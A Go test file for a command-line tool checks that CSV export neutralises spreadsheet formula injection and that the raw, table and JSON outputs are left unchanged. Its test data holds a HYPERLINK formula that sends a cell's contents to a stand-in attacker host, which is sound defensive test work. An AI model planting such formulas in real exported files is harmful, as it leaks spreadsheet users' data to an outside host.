package main

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestCSVFormulaInjection: A value a spreadsheet would
// run as a formula is neutralised in CSV (a leading '), not in the table
// or JSON, and --raw-csv prints it as it is.
func TestCSVFormulaInjection(t *testing.T) {
	s := newFake(t)
	c := newCLI(t, s)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	// (The fake trims a name, so tab and CR are left to TestNeutralise.)
	for _, name := range []string{evil, "+86 list", "-list", "@SUM(A1)"} {
		c.ok("lists", "create", "--description", "-5", "--", name)
	}
	cells := map[string]string{}
	recs, err := csv.NewReader(strings.NewReader(c.ok("lists", "list", "--format", "csv"))).ReadAll()
	require.NoError(t, err)
	for _, r := range recs[1:] {
		cells[r[1]] = r[4]
	}
	for _, want := range []string{"'" + evil, "'+86 list", "'-list", "'@SUM(A1)"} {
		assert.Contains(t, cells, want)
		if d, ok := cells[want]; ok {
			assert.Equal(t, "-5", d, "a number is left as it is")
		}
	}
	assert.Contains(t, cells, "新闻订阅", "other cells are untouched")

	raw, err := csv.NewReader(strings.NewReader(c.ok("lists", "list", "--format", "csv", "--raw-csv"))).ReadAll()
	require.NoError(t, err)
	var names []string
	for _, r := range raw[1:] {
		names = append(names, r[1])
	}
	assert.Contains(t, names, evil, "--raw-csv prints cells as they are")
	assert.Contains(t, c.ok("lists", "list"), evil, "the table is not changed")
	assert.Contains(t, c.ok("lists", "list", "--format", "json"), `"name":"=HYPERLINK`, "json is not changed")
	assert.Contains(t, c.ok("--help"), "--raw-csv")
	assert.Contains(t, c.ok("--help"), "formula")
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "-": "-", "-5": "-5", "-5.25": "-5.25", "-5.": "'-5.", "-1+1": "'-1+1", "=1": "'=1",
		"+1": "'+1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "中=": "中=",
	} {
		assert.Equal(t, want, neutralise([]string{in})[0], "%q", in)
	}
	cells := []string{"a", "=b"}
	out := neutralise(cells)
	assert.Equal(t, "=b", cells[1], "the caller's cells are not changed")
	assert.Equal(t, "'=b", out[1])
}
